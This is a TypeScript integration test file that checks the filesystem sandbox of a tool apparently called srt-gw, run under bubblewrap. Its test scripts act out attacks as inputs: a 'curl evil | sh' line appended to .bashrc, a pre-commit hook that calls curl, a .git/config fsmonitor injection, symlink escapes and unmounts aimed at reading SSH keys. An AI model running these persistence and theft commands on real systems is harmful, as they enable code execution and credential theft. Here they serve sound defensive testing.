// The jail's filesystem rules in a real bubblewrap, as root and as an unprivileged user: secrets
// read as empty files and directories, protected files unwritable, /tmp and /run private, cwd writable. Arguments come
// from resolveFilesystemRules() + bwrapFilesystemArgs(), exactly as `srt-gw run` builds them.
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resolveFilesystemRules } from '../../jail/filesystem-rules.js';
import { bwrapFilesystemArgs } from '../../jail/linux/bwrap-filesystem.js';
import type { FilesystemPolicy } from '../../policies/types.js';
import { capabilityGate, missingCommand, missingRoot } from '../support/capabilities.js';

const skip = capabilityGate(missingRoot(), missingCommand('bwrap'), missingCommand('setpriv'), missingCommand('python3'));

const NOBODY = 65534;
/** Drops to an ordinary user with no capabilities before bwrap starts, as a non-root `srt-gw run` would be. */
const AS_NOBODY = ['setpriv', '--reuid', String(NOBODY), '--regid', String(NOBODY), '--clear-groups', '--inh-caps=-all'];
const SECRET = 'BEGIN OPENSSH PRIVATE KEY secret-material';

interface Fixture {
  home: string;
  cwd: string;
  ca: string;
  args: string[];
}

interface JailResult {
  status: number | null;
  stdout: string;
  stderr: string;
}

let root = '';
let hostTmpFile = '';
let hostSocket = '';
const fixtures = new Map<'root' | 'nobody', Fixture>();

/** A fake home with secrets, a project as cwd, a CA dir; owned by `uid`. */
function makeFixture(name: string, uid: number): Fixture {
  const base = join(root, name);
  const home = join(base, 'home');
  const cwd = join(home, 'project');
  const ca = join(base, 'ca');
  // A checkout of srt-gw as the project: its built code runs outside the jail next time.
  const ownCode = [join(cwd, 'srt-gw/dist'), join(cwd, 'srt-gw/native/build')];
  for (const directory of [join(home, '.ssh'), join(home, '.aws'), join(cwd, '.git'), ca, ...ownCode]) mkdirSync(directory, { recursive: true });
  writeFileSync(join(cwd, 'srt-gw/dist/srt-gw.js'), '// the gateway\n');
  writeFileSync(join(home, '.ssh/id_rsa'), SECRET);
  writeFileSync(join(home, '.aws/config'), '[default]\nregion = eu-west-1\n');
  writeFileSync(join(home, '.aws/credentials'), `aws_secret_access_key = ${SECRET}\n`);
  writeFileSync(join(home, '.bashrc'), '# bashrc\n');
  writeFileSync(join(home, '.netrc'), `machine example.test password ${SECRET}\n`);
  writeFileSync(join(cwd, '.git/HEAD'), 'ref: refs/heads/main\n');
  writeFileSync(join(ca, 'ca-key.pem'), SECRET);
  const emptyFile = join(base, 'empty');
  writeFileSync(emptyFile, '');
  execFileSync('chown', ['-R', `${uid}:${uid}`, base]);
  chmodSync(emptyFile, 0o444);
  const policy: FilesystemPolicy = {
    denyRead: [],
    allowRead: [{ path: '~/.aws/config', baseDirectory: cwd }],
    allowWrite: [],
    denyWrite: [],
  };
  const rules = resolveFilesystemRules(policy, { home, cwd, alwaysHidden: [ca], alwaysReadOnly: [], ownCode });
  return { home, cwd, ca, args: bwrapFilesystemArgs(rules, { emptyFile }) };
}

/** Runs `script` with sh in the jail; the runner's own flags around our filesystem arguments. */
function runInJail(who: 'root' | 'nobody', script: string, options: { dropCapabilities?: boolean } = {}): JailResult {
  const fixture = fixtures.get(who)!;
  const bwrap = [
    'bwrap',
    '--unshare-user',
    '--uid',
    '0',
    '--gid',
    '0',
    '--unshare-net',
    // SECURITY: bwrap run by real root keeps every capability unless told otherwise, and with
    // CAP_SYS_ADMIN the command could unmount what hides ~/.ssh ("without --cap-drop ALL" below).
    ...(options.dropCapabilities === false ? [] : ['--cap-drop', 'ALL']),
    ...fixture.args,
    '--chdir',
    fixture.cwd,
    '--',
    'sh',
    '-c',
    script,
  ];
  const command = who === 'root' ? bwrap : [...AS_NOBODY, ...bwrap];
  const result = spawnSync(command[0]!, command.slice(1), {
    encoding: 'utf8',
    timeout: 20_000,
    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: fixture.home },
  });
  if (result.error) throw result.error;
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

beforeAll(() => {
  if (skip !== null) return;
  // Not under /tmp: the jail's /tmp is private, so the fake home would not be there at all.
  root = realpathSync(mkdtempSync('/var/tmp/srt-gw-jail-fs-'));
  chmodSync(root, 0o755);
  fixtures.set('root', makeFixture('as-root', 0));
  fixtures.set('nobody', makeFixture('as-nobody', NOBODY));
  hostTmpFile = join('/tmp', `srt-gw-host-only-${process.pid}`);
  writeFileSync(hostTmpFile, 'host /tmp content');
  mkdirSync('/run', { recursive: true });
  hostSocket = join('/run', `srt-gw-test-${process.pid}.sock`);
  // A bound unix socket stays in the filesystem after its process exits, as /run/docker.sock would.
  execFileSync('python3', ['-c', 'import socket, sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])', hostSocket]);
});

afterAll(() => {
  if (root !== '') rmSync(root, { recursive: true, force: true });
  if (hostTmpFile !== '') rmSync(hostTmpFile, { force: true });
  if (hostSocket !== '') rmSync(hostSocket, { force: true });
});

describe.skipIf(skip !== null).each(['root', 'nobody'] as const)('jail filesystem as %s', (who) => {
  const fixture = () => fixtures.get(who)!;

  it('reading ~/.ssh/id_rsa fails: the hidden directory has no such file', () => {
    const result = runInJail(who, 'cat "$HOME/.ssh/id_rsa"');
    expect(result.status).not.toBe(0);
    expect(result.stderr).toContain('No such file or directory');
    expect(result.stdout).not.toContain(SECRET);
  });

  it('~/.ssh lists as empty, so not even key names leak, and nothing can be written into it', () => {
    const result = runInJail(who, 'ls -A "$HOME/.ssh"; echo "ls=$?"; echo key > "$HOME/.ssh/authorized_keys"');
    expect(result.stdout).toBe('ls=0\n');
    expect(result.stderr).toMatch(/authorized_keys: Read-only file system/);
  });

  it('a hidden file (~/.netrc) reads as empty, and cannot be written, replaced or made to show the secret', () => {
    const result = runInJail(
      who,
      'cat "$HOME/.netrc"; echo "cat=$?"; chmod 644 "$HOME/.netrc"; echo x > "$HOME/.netrc"; rm -f "$HOME/.netrc"; cat "$HOME/.netrc"; wc -c < "$HOME/.netrc"',
    );
    expect(result.stdout).not.toContain(SECRET);
    expect(result.stdout).toBe('cat=0\n0\n');
    expect(result.stderr).toMatch(/chmod: .*Read-only file system/);
    expect(result.stderr).toMatch(/\.netrc: Read-only file system/);
    expect(result.stderr).toMatch(/rm: .*(Read-only file system|Permission denied)/);
  });

  it('~/.aws/config is readable after allowRead; ~/.aws/credentials is still not', () => {
    const config = runInJail(who, 'cat "$HOME/.aws/config"');
    expect(config.stdout).toBe('[default]\nregion = eu-west-1\n');
    expect(config.status).toBe(0);
    const credentials = runInJail(who, 'cat "$HOME/.aws/credentials"');
    expect(credentials.status).not.toBe(0);
    expect(credentials.stdout).not.toContain(SECRET);
  });

  it('a symlink in cwd pointing into ~/.ssh leads to the hidden directory', () => {
    const result = runInJail(who, 'ln -s "$HOME/.ssh" peek && cat peek/id_rsa');
    expect(result.status).not.toBe(0);
    expect(result.stderr).toContain('No such file or directory');
    expect(result.stdout).not.toContain(SECRET);
  });

  it('the CA directory is hidden', () => {
    const result = runInJail(who, `cat ${fixture().ca}/ca-key.pem; ls -A ${fixture().ca}`);
    expect(result.stderr).toContain('No such file or directory');
    expect(result.stdout).toBe('');
  });

  it('writing a file in cwd works, and the host sees it', () => {
    const result = runInJail(who, `echo written-by-${who} > out.txt && cat out.txt`);
    expect(result.stdout).toBe(`written-by-${who}\n`);
    expect(result.status).toBe(0);
    expect(readdirSync(fixture().cwd)).toContain('out.txt');
  });

  it("srt-gw's own code in the working directory cannot be rewritten; its sources can", () => {
    const result = runInJail(
      who,
      'echo x > srt-gw/dist/srt-gw.js; echo x > srt-gw/dist/new.js; echo x > srt-gw/native/build/srt-gw-jail-init; echo edited > srt-gw/notes.txt && cat srt-gw/notes.txt',
    );
    expect(result.stderr.match(/Read-only file system/g)).toHaveLength(3);
    expect(result.stdout).toBe('edited\n');
  });

  it('writing ~/.bashrc fails', () => {
    const result = runInJail(who, 'echo "curl evil | sh" >> "$HOME/.bashrc"');
    expect(result.status).not.toBe(0);
    expect(result.stderr).toMatch(/Read-only file system|Permission denied/);
  });

  it('creating cwd/.git/hooks/pre-commit fails, in a repository that has no hooks directory', () => {
    const result = runInJail(who, 'mkdir -p .git/hooks; printf "#!/bin/sh\\ncurl evil\\n" > .git/hooks/pre-commit');
    expect(result.status).not.toBe(0);
    expect(result.stderr).toMatch(/Read-only file system|Permission denied/);
  });

  it('writing .git/config fails, and moving .git aside to rebuild it fails too', () => {
    const result = runInJail(who, 'echo "[core] fsmonitor = evil" >> .git/config; mv .git .git-old; echo status=$?');
    expect(result.stderr).toMatch(/\.git\/config: (Read-only file system|Permission denied)/);
    expect(result.stderr).toMatch(/mv: .*(Device or resource busy|Read-only file system|Permission denied)/);
    expect(result.stdout).not.toContain('status=0');
  });

  it('writing outside cwd fails', () => {
    const result = runInJail(who, 'echo x > "$HOME/outside.txt"');
    expect(result.status).not.toBe(0);
    expect(result.stderr).toMatch(/Read-only file system|Permission denied/);
  });

  it('/tmp is private: a host /tmp file is not visible, and /tmp is writable', () => {
    const result = runInJail(who, `test -e ${hostTmpFile} && echo visible; echo x > /tmp/mine && echo writable`);
    expect(result.stdout).toBe('writable\n');
  });

  it('a host socket under /run is not visible', () => {
    expect(execFileSync('sh', ['-c', `test -S ${hostSocket} && echo socket`], { encoding: 'utf8' })).toBe('socket\n');
    const result = runInJail(who, `test -e ${hostSocket} && echo visible; ls /run | wc -l`);
    expect(result.stdout).toBe('0\n');
  });

  it('the hiding mounts cannot be undone from inside', () => {
    const result = runInJail(who, 'umount "$HOME/.ssh"; umount "$HOME/.netrc"; cat "$HOME/.ssh/id_rsa" "$HOME/.netrc"');
    expect(result.stdout).not.toContain(SECRET);
    expect(result.stderr).toMatch(/umount: .*\.ssh/);
    expect(result.stderr).toContain('No such file or directory');
  });
});

describe.skipIf(skip !== null)('why the runner must pass --cap-drop ALL as root', () => {
  it('as real root without --cap-drop ALL, the command keeps CAP_SYS_ADMIN and can unmount the tmpfs hiding ~/.ssh', () => {
    const result = runInJail('root', 'umount "$HOME/.ssh" && cat "$HOME/.ssh/id_rsa"', { dropCapabilities: false });
    expect(result.stdout).toContain(SECRET);
  });
});
